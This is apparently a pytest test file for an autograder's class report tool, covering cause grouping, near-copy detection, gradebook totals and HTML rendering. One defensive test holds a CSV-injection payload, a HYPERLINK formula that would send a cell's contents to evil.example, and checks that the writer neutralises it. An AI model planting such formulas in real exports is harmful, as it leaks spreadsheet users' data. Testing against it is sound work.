"""The class report (autograder.tools.report): a synthetic class graded by the real class run into a real gradebook
gives the expected counts, causes and similar pairs; its numbers are the gradebook's; its page renders in Chromium.

The class run's workers are replaced by one that hands back each submission's notebook with the verdicts the test
planned (in the format TrustedVerdicts writes, each failure's diagnosis ending with its ``cause: <id>`` line), so no
kernel starts: nbgrader records them as it records any class run.
"""
from __future__ import annotations

import csv
import io
import json
import shutil

import nbformat
import pytest
from nbformat.v4 import new_output

from autograder.contract import exercise_id, nbgrader_meta
from autograder.course import SCRATCH_COURSE_CONFIG, solution_version
from autograder.grade.class_run import course_config, grade_class
from autograder.grade.submission import Executed
from autograder.tools import report, similar
from autograder.tools.class_data import NOT_GRADED, UNKNOWN, cause_of, is_knock_on
from autograder.tools.demo import MISTAKES
from autograder.tools.progress import progress
from autograder.trust.verdicts import VERIFIED
from conftest import REPO

NB1, NB2 = "01_nudging", "02_scalar_engine"
FORWARD, OVERWRITES = MISTAKES[NB1].cause, MISTAKES[NB2].cause  # the demo's mistakes of these two
# A learner's own numerical_gradient, and a classmate's copy of it with other names: what the report must flag.
OWN = '''def numerical_gradient(f, x, h=1e-5):
    flat_input = np.array(x, dtype=float).ravel()
    slopes = np.empty_like(flat_input)
    for position in range(flat_input.size):
        bumped_up, bumped_down = flat_input.copy(), flat_input.copy()
        bumped_up[position] += h
        bumped_down[position] -= h
        upper = f(bumped_up.reshape(np.shape(x)))
        lower = f(bumped_down.reshape(np.shape(x)))
        slopes[position] = (upper - lower) / (2.0 * h)
    return slopes.reshape(np.shape(x))
'''
COPIED = (OWN.replace("flat_input", "values").replace("slopes", "grads").replace("position", "i")
          .replace("bumped_up", "plus").replace("bumped_down", "minus"))
SLOW_S = 500.0  # the seconds the planned worker reports for the slow student


def source(name):
    return nbformat.read(REPO / "source" / name / f"{name}.ipynb", as_version=4)


def edited(nb, grade_id: str, change) -> nbformat.NotebookNode:
    nb = nbformat.from_dict(nb)
    for cell in nb.cells:
        if nbgrader_meta(cell).get("grade_id") == grade_id:
            cell.source = change(cell.source)
    return nb


def mistaken(name: str) -> nbformat.NotebookNode:
    """The demo's realistic mistake of an assignment, in its solution."""
    grade_id, edits, _ = MISTAKES[name]

    def apply(text):
        for right, wrong in edits:
            text = text.replace(right, wrong)
        return text
    return edited(solution_version(source(name)), grade_id, apply)


def untouched(root, name: str) -> nbformat.NotebookNode:
    """The learner's copy of an assignment as generate_assignment wrote it into the course ``root``."""
    return nbformat.read(root / "release" / name / f"{name}.ipynb", as_version=4)


def planned(name: str, causes: dict[str, str | None], default=None) -> dict[str, str | None]:
    """Exercise -> cause (None: passed) of every exercise of ``name``: ``causes``, else ``default``."""
    ids = [exercise_id(m["grade_id"]) for m in map(nbgrader_meta, source(name).cells)
           if m.get("grade") and not m.get("solution")]
    return {e: causes.get(e, default) for e in ids}


def the_class(root) -> dict[tuple[str, str], tuple[object, dict]]:
    """(assignment, student) -> (submitted notebook or bytes, planned causes)."""
    solved1, solved2 = solution_version(source(NB1)), solution_version(source(NB2))
    forward = planned(NB1, {"central_difference": FORWARD, "numerical_gradient": "builds-on:central_difference"})
    own = edited(solved1, "numerical_gradient", lambda _: OWN)
    return {
        (NB1, "full-1"): (solved1, planned(NB1, {})), (NB1, "full-2"): (solved1, planned(NB1, {})),
        **{(NB1, f"fwd-{k}"): (mistaken(NB1), forward) for k in (1, 2, 3)},
        **{(NB1, f"stub-{k}"): (untouched(root, NB1), planned(NB1, {}, "stub")) for k in (1, 2)},
        (NB1, "copy-a"): (own, planned(NB1, {})),
        (NB1, "copy-b"): (edited(solved1, "numerical_gradient", lambda _: COPIED), planned(NB1, {})),
        # a verdict whose message names no cause: the recording gives it a CheckFailure's, mismatch
        (NB1, "legacy"): (mistaken(NB1), planned(NB1, {"central_difference": UNKNOWN})),
        (NB1, "slow"): (solved1, planned(NB1, {"tanh_network_gradients": "timeout"})),
        (NB1, "broken"): (b"{ not json", {}),
        (NB2, "full-1"): (solved2, planned(NB2, {})),
        **{(NB2, f"stub-{k}"): (untouched(root, NB2), planned(NB2, {}, "stub")) for k in (1, 2)},
        **{(NB2, f"acc-{k}"): (mistaken(NB2), planned(NB2, {"value_node": OVERWRITES})) for k in (1, 2)},
    }


def planned_output(exercise: str, cause: str | None):
    """A test cell's output as TrustedVerdicts writes it (a stream for a pass, a CheckFailure for a fail), written
    out here so that the test does not depend on how the grader builds it: a diagnosis ending with its cause line,
    or with none for UNKNOWN."""
    if cause is None:
        return new_output("stream", name="stdout", text=f"{exercise}: {VERIFIED}\n")
    said = f"the planned slip of {exercise}" + ("" if cause == UNKNOWN else f"\ncause: {cause}")
    return new_output("error", ename="CheckFailure", evalue=f"[{exercise}] {said}",
                      traceback=[f"CheckFailure: [{exercise}]", *said.splitlines()])


class PlannedWorker:
    """Stands in for execute_submission: each test cell gets the course's source (as nbgrader's sanitizing gives
    it) and the planned verdict's outputs, as TrustedVerdicts writes them."""

    def __init__(self, plans: dict[tuple[str, str], dict]):
        self.plans = plans
        self.tests = {name: {m["grade_id"]: c.source for c in source(name).cells
                             for m in [nbgrader_meta(c)] if m.get("grade") and not m.get("solution")}
                      for name in (NB1, NB2)}

    def __call__(self, snapshot, task):
        nb = nbformat.reads(task.files[f"{task.assignment}.ipynb"].decode(), as_version=4)
        plan = self.plans[(task.assignment, task.student)]
        for cell in nb.cells:
            grade_id = nbgrader_meta(cell).get("grade_id")
            if grade_id in self.tests[task.assignment]:
                cell.source, exercise = self.tests[task.assignment][grade_id], exercise_id(grade_id)
                cause = plan[exercise]
                cell.outputs = [planned_output(exercise, cause)]
        seconds = SLOW_S if task.student == "slow" else 1.0
        return Executed(task.student, {task.assignment: nbformat.writes(nb)}, "planned", seconds, "planned")


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """The synthetic class, graded by the class run on one thread worker (about 40 s: nbgrader generates two
    assignments, in this process, and records 17 submissions)."""
    from distributed import LocalCluster
    from nbgrader.apps import NbGraderAPI

    root = tmp_path_factory.mktemp("course")
    (root / "nbgrader_config.py").write_text(SCRATCH_COURSE_CONFIG)
    for name in (NB1, NB2):
        shutil.copytree(REPO / "source" / name, root / "source" / name)
        generated = NbGraderAPI(config=course_config(root, "record")).generate_assignment(name)
        assert generated["success"], generated.get("log") or generated.get("error")
    members = the_class(root)
    for (name, student), (nb, _) in members.items():
        path = root / "submitted" / student / name / f"{name}.ipynb"
        path.parent.mkdir(parents=True)
        path.write_bytes(nb) if isinstance(nb, bytes) else nbformat.write(nb, path)
    with LocalCluster(n_workers=1, threads_per_worker=1, processes=False, dashboard_address=None) as cluster:
        grade_class(root, [NB1, NB2], scheduler=cluster.scheduler_address, out=io.StringIO(),
                    execute=PlannedWorker({k: plan for k, (_, plan) in members.items()}))
    out = root / "report-out"
    assert report.run(root, [], out, stdout=io.StringIO()) == 0
    return root, out, json.loads((out / "report.json").read_text())


def by_exercise(data, assignment, exercise):
    return next(e for e in data["exercises"] if (e["assignment"], e["exercise"]) == (assignment, exercise))


@pytest.mark.slow  # nbgrader generates two assignments and records a class
def test_every_planned_slip_appears_under_its_own_cause_and_knock_ons_are_told_apart(graded):
    _, _, data = graded
    assert by_exercise(data, NB1, "central_difference")["causes"] == {
        FORWARD: ["fwd-1", "fwd-2", "fwd-3"], "stub": ["stub-1", "stub-2"], "mismatch": ["legacy"],
        NOT_GRADED: ["broken"]}
    assert by_exercise(data, NB1, "numerical_gradient")["causes"] == {
        "builds-on:central_difference": ["fwd-1", "fwd-2", "fwd-3"], "stub": ["stub-1", "stub-2"],
        NOT_GRADED: ["broken"]}
    assert by_exercise(data, NB1, "tanh_network_gradients")["causes"] == {
        "stub": ["stub-1", "stub-2"], NOT_GRADED: ["broken"], "timeout": ["slow"]}
    assert by_exercise(data, NB2, "value_node")["causes"] == {OVERWRITES: ["acc-1", "acc-2"],
                                                              "stub": ["stub-1", "stub-2"]}
    central = by_exercise(data, NB1, "central_difference")
    assert (central["passed"], central["submissions"]) == (5, 12)  # full-1/2, copy-a/b, slow
    marks = {(s["assignment"], s["student"]): s["exercises"] for s in data["submissions"]}
    assert marks[(NB1, "fwd-1")]["numerical_gradient"]["knock_on"]
    assert not marks[(NB1, "fwd-1")]["central_difference"]["knock_on"]
    assert data["persisting"] == [{"student": "stub-1", "cause": "stub", "assignments": [NB1, NB2]},
                                  {"student": "stub-2", "cause": "stub", "assignments": [NB1, NB2]}]


@pytest.mark.slow  # nbgrader generates two assignments and records a class
def test_the_near_copies_are_flagged_and_nobody_else_though_many_share_a_slip_or_the_solution(graded):
    _, out, data = graded
    assert [(p["assignment"], p["students"]) for p in data["similar"]] == [(NB1, ["copy-a", "copy-b"])]
    pair = data["similar"][0]
    assert "<mark>" in pair["matched"][0] and "bumped_up" in pair["matched"][0] and "plus" in pair["matched"][1]
    with open(out / "similar.csv") as table:
        assert [(r["student_a"], r["student_b"]) for r in csv.DictReader(table)] == [("copy-a", "copy-b")]


@pytest.mark.slow  # nbgrader generates two assignments and records a class
def test_the_reports_numbers_are_the_gradebooks_and_failures_and_slow_ones_are_listed(graded):
    from nbgrader.api import Gradebook

    root, out, data = graded
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}", "backprop-from-scratch") as gradebook:
        expected = {(a.name, s.student_id, exercise_id(g.name)): (g.score, g.max_score)
                    for a in gradebook.assignments for s in a.submissions for nb in s.notebooks for g in nb.grades}
        totals = {(a.name, s.student_id): s.score for a in gradebook.assignments for s in a.submissions}
    with open(out / "results.csv") as table:
        rows = list(csv.DictReader(table))
    assert {(r["assignment"], r["student"], r["exercise"]): (float(r["score"]), float(r["max_score"]))
            for r in rows} == expected
    assert {(s["assignment"], s["student"]): s["score"] for s in data["submissions"]} == totals
    failed = [s for s in data["submissions"] if not s["graded"]]
    assert [(s["student"], s["score"]) for s in failed] == [("broken", 0.0)]
    assert "not a readable notebook" in failed[0]["reason"]
    slowest = sorted((s for s in data["submissions"] if s["seconds"] is not None), key=lambda s: -s["seconds"])
    assert slowest[0]["student"] == "slow" and slowest[0]["seconds"] >= SLOW_S
    page = (out / "report.html").read_text()
    assert page.count('src="data:image/png;base64,') == 2 and "not a readable notebook" in page
    assert "<script" not in page and "http" not in page.split("<body>")[1]  # nothing to fetch, nothing to run


@pytest.mark.slow  # nbgrader generates two assignments and records a class
def test_a_report_of_an_assignment_nobody_graded_or_a_course_without_gradebook_says_why(graded, tmp_path, capsys):
    root, _, _ = graded
    assert report.run(root, ["03_backward_functions"], tmp_path / "out") == 2
    assert "03_backward_functions is not in the gradebook" in capsys.readouterr().err
    (tmp_path / "a-file").write_text("")
    assert report.run(root, [NB1], tmp_path / "a-file" / "out") == 2
    assert "cannot write the report into" in capsys.readouterr().err
    (tmp_path / "empty").mkdir()
    assert report.run(tmp_path / "empty", [], tmp_path / "out") == 2
    assert "no gradebook" in capsys.readouterr().err and not (tmp_path / "out").exists()


@pytest.mark.parametrize("diagnosis, cause", [
    ("this is the forward difference ...\ncause: central_difference/forward-difference",
     "central_difference/forward-difference"),
    ("builds on an earlier exercise\ncause: builds-on:unbroadcast  \n\n", "builds-on:unbroadcast"),
    ("cause: stub\nbut a later line says more", UNKNOWN),   # only the last line names the cause
    ("the cause: stub was mentioned in prose", UNKNOWN),
    ("cause: two words", UNKNOWN),
    ("a submission's own text\ncause: $\\foo$", UNKNOWN),  # only declared ids: this one stopped matplotlib
    ("a submission's own text\ncause: =HYPERLINK(1)", UNKNOWN),
    ("looks like an id\ncause: central_difference/made-up", UNKNOWN),
    ("", UNKNOWN),
])
def test_the_cause_is_the_last_line_of_a_diagnosis_and_unknown_without_one(diagnosis, cause):
    assert cause_of(diagnosis) == cause


def test_only_builds_on_causes_are_knock_ons():
    assert is_knock_on("builds-on:unbroadcast") and not is_knock_on("unbroadcast/no-keepdims")


def test_a_renamed_copy_is_similar_and_a_shared_slip_of_the_solution_is_not():
    course_nb = source(NB1)
    course = similar.course_code(course_nb)
    solved = solution_version(course_nb)
    answers = {"a": similar.answer_code(edited(solved, "numerical_gradient", lambda _: OWN), course_nb),
               "b": similar.answer_code(edited(solved, "numerical_gradient", lambda _: COPIED), course_nb),
               "slip-1": similar.answer_code(mistaken(NB1), course_nb),
               "slip-2": similar.answer_code(mistaken(NB1), course_nb),
               "solution": similar.answer_code(solved, course_nb)}
    for k in (1, 2):  # every answer cell cleared down to a bare stub, the given code deleted too
        cleared = nbformat.from_dict(solved)
        for cell in cleared.cells:
            if nbgrader_meta(cell).get("solution"):
                cell.source = "raise NotImplementedError()"
        answers[f"cleared-{k}"] = similar.answer_code(cleared, course_nb)
    assert [p.students for p in similar.similar_pairs(NB1, answers, course)] == [("a", "b")]
    # Without the course's code left out, everyone who hands in the solution would be flagged.
    assert len(similar.similar_pairs(NB1, answers, [])) > 1


def test_progress_lists_every_exercise_done_or_open_with_its_cause_and_an_ungradable_notebook_says_why():
    from autograder.grade.notebook import ExerciseResult, GradeReport, UnusableNotebook

    def grade(path):
        if path.name == "missing.ipynb":
            raise UnusableNotebook(f"{path}: no such file")
        return GradeReport(path.stem, [ExerciseResult("central_difference", 2, 2, ""),
                                       ExerciseResult("numerical_gradient", 0, 3, "wrong\ncause: stub")])
    out = io.StringIO()
    left = progress({NB1: REPO / f"{NB1}.ipynb", NB2: REPO / "missing.ipynb"}, grade, out)
    lines = out.getvalue().splitlines()
    assert left == 2
    assert lines[0].startswith(f"{NB1}: 1/2 exercises done, 2/5 points")
    assert lines[1].split() == ["done", "central_difference"] and lines[2].split() == ["open", "numerical_gradient",
                                                                                         "stub"]
    assert lines[3].startswith(f"{NB2}: cannot be graded") and "no such file" in lines[3]


@pytest.mark.slow
@pytest.mark.browser  # test_browser's Chromium, on the page as a file: no server
def test_browser_shows_the_reports_charts_and_tables(graded):
    from test_browser import BROWSER_MISSING, CHROMIUM, CHROMIUM_ARGS, sync_playwright

    if BROWSER_MISSING:
        pytest.skip(BROWSER_MISSING)
    _, out, data = graded
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            page = chromium.new_page(viewport={"width": 1400, "height": 1000})
            page.goto((out / "report.html").as_uri())
            charts = page.locator("img.chart")
            assert charts.count() == 2
            for k in range(2):  # decoded and drawn: a broken image has no natural size
                assert charts.nth(k).evaluate("img => img.complete && img.naturalWidth > 300 && img.naturalHeight > 100")
                assert charts.nth(k).is_visible()
            exercises = sum(1 for e in data["exercises"] if e["assignment"] == NB1)
            first_map = page.locator(f"section[id='{NB1}'] table.map")
            assert first_map.locator("tr").count() == 1 + 12  # a header, then every submission
            assert first_map.locator("tr").first.locator("th").count() == 2 + exercises
            assert first_map.locator("td.knock-on").count() == 3 and first_map.locator("td.not-graded").count() == 4
            assert page.locator("table.failures td", has_text="broken").is_visible()
            assert page.locator("table.pair mark").count() > 0
            assert page.locator("table.persisting tr").count() == 3
        finally:
            chromium.close()


def test_a_class_run_ends_with_the_command_that_writes_its_report(monkeypatch, capsys):
    from autograder.__main__ import main
    from autograder.grade import class_run
    from autograder.grade.submission import Row
    from autograder.trust import sandbox

    monkeypatch.setenv(sandbox.WITHOUT_SANDBOX_ENV, "1")  # the command sets it; this restores it after the test
    monkeypatch.setattr(class_run, "grade_class", lambda *args, **kwargs: [Row("ann", "graded", 10, 10)])
    assert main(["autograde", NB1, NB2, "--without-sandbox"]) == 0
    last = capsys.readouterr().err.strip().splitlines()[-1]
    assert f"make report ASSIGNMENT='{NB1} {NB2}'" in last and f"python -m autograder report {NB1} {NB2}" in last


@pytest.mark.slow  # nbgrader generates two assignments and records a class
def test_an_autograded_notebook_that_cannot_be_read_is_listed_as_not_graded_and_the_rest_reported(graded, tmp_path):
    root, _, _ = graded
    course = tmp_path / "course"
    shutil.copytree(root, course)
    (course / "autograded" / "fwd-2" / NB1 / f"{NB1}.ipynb").write_text("{ cut short")
    assert report.run(course, [NB1], tmp_path / "out", stdout=io.StringIO()) == 0
    data = json.loads((tmp_path / "out" / "report.json").read_text())
    rows = {s["student"]: s for s in data["submissions"]}
    assert not rows["fwd-2"]["graded"] and "cannot be read" in rows["fwd-2"]["reason"]
    assert rows["fwd-1"]["graded"] and by_exercise(data, NB1, "central_difference")["causes"][FORWARD] == [
        "fwd-1", "fwd-3"]


def test_only_a_root_cause_seen_in_two_assignments_persists():
    from autograder.tools.class_data import ClassReport, Outcome, Submission

    def submission(assignment, student, causes):
        return Submission(student, assignment, 0, len(causes), {f"e{k}": Outcome(0, 1, c) for k, c in
                                                                enumerate(causes)}, graded=True)
    shared = ["stub", "builds-on:e0", UNKNOWN, NOT_GRADED]
    report_ = ClassReport("c", {"a1": [], "a2": [], "a3": []}, [
        submission("a1", "ann", shared), submission("a3", "ann", shared + ["e/slip"]),
        submission("a2", "bob", ["e/slip"]), submission("a3", "bob", ["stub"])])
    assert report_.persisting() == [{"student": "ann", "cause": "stub", "assignments": ["a1", "a3"]}]


def recorded_by_hand(root, students: dict[str, float]) -> None:
    """A course whose gradebook holds NB1 (one notebook, one 10-point cell) with these students' scores, and an
    autograded copy of each: what a whole record leaves, as far as the report reads it. No kernel, no class run."""
    from nbgrader.api import Gradebook

    root.mkdir()
    config = course_config(root, "record")  # the course defaults: no nbgrader_config.py
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}", config.CourseDirectory.course_id) as gradebook:
        gradebook.add_assignment(NB1)
        gradebook.add_notebook(NB1, NB1)
        gradebook.add_grade_cell("central_difference", NB1, NB1, max_score=10, cell_type="code")
        for student, score in students.items():
            gradebook.add_student(student)
            submission = gradebook.add_submission(NB1, student)
            submission.notebooks[0].grades[0].auto_score = score
            gradebook.db.commit()
            folder = root / "autograded" / student / NB1
            folder.mkdir(parents=True)
            nbformat.write(nbformat.v4.new_notebook(), folder / f"{NB1}.ipynb")


def test_a_half_written_record_shows_as_not_graded_and_a_running_class_run_stops_the_report(tmp_path):
    """A class run killed while recording leaves the journal's marker, and the gradebook may already hold a row
    that looks graded (0 points): the report showed it so (a class-run attack's G2)."""
    from autograder.grade.class_run import JOURNAL, LOCK, LOGS
    from autograder.grade.journal import CourseLock
    from autograder.tools.class_data import INTERRUPTED, ReportError, read_class

    root = tmp_path / "course"
    recorded_by_hand(root, {"ann": 10.0, "bob": 0.0})
    whole = {s.student: s.graded for s in read_class(root, [NB1]).submissions}
    assert whole == {"ann": True, "bob": True}  # without a marker, bob's 0 is a grade
    (root / LOGS / JOURNAL / NB1).mkdir(parents=True)
    (root / LOGS / JOURNAL / NB1 / "bob").touch()
    rows = {s.student: s for s in read_class(root, [NB1]).submissions}
    assert rows["ann"].graded and (rows["bob"].graded, rows["bob"].reason) == (False, INTERRUPTED)
    assert rows["bob"].exercises["central_difference"].cause == NOT_GRADED
    with CourseLock(root / LOGS / LOCK):  # a class run grading the course now
        with pytest.raises(ReportError, match="another class run is grading this course"):
            read_class(root, [NB1])


def test_learner_text_in_the_csv_files_is_never_a_spreadsheet_formula(tmp_path):
    """A failing input quotes the learner's own exception, which can read like a formula (red team 6, F3)."""
    import csv

    from autograder.tools.class_data import ClassReport, Outcome, Submission
    from autograder.tools.report import write

    forged = '=HYPERLINK("http://evil.example/?"&A1,"see")'
    outcomes = {"e0": Outcome(0, 1, "crash", forged), "e1": Outcome(0, 1, "mismatch", "x = -1.5")}
    write(ClassReport("c", {"a1": ["e0", "e1"]}, [Submission("ann", "a1", 0, 2, outcomes, graded=True)]), tmp_path)
    with open(tmp_path / "results.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["input"] for r in rows] == ["'" + forged, "x = -1.5"]
    cells = [c for name in ("results.csv", "causes.csv") for r in csv.reader(open(tmp_path / name)) for c in r]
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


def test_the_demo_says_where_its_report_shows_a_mistake_under_another_cause_than_the_catalogues():
    from autograder.tools.demo import unlike_the_catalogue

    def told(cause_of_mistake):
        return {"submissions": [
            {"student": "full-marks", "assignment": name, "exercises": {m.grade_id: {"cause": None}}}
            for name, m in MISTAKES.items()] + [
            {"student": "mistake", "assignment": name, "exercises": {m.grade_id: {"cause": cause_of_mistake(m)}}}
            for name, m in MISTAKES.items()]}

    assert unlike_the_catalogue(told(lambda m: m.cause)) == []
    crashed = unlike_the_catalogue(told(lambda m: "crash" if m.grade_id == "unbroadcast" else m.cause))
    assert crashed == ["!!! 03_backward_functions: the mistake in unbroadcast should be under unbroadcast/no-keepdims; "
                       "the report shows crash"]
    assert len(unlike_the_catalogue({"submissions": []})) == len(MISTAKES)  # nobody graded: every one says no row
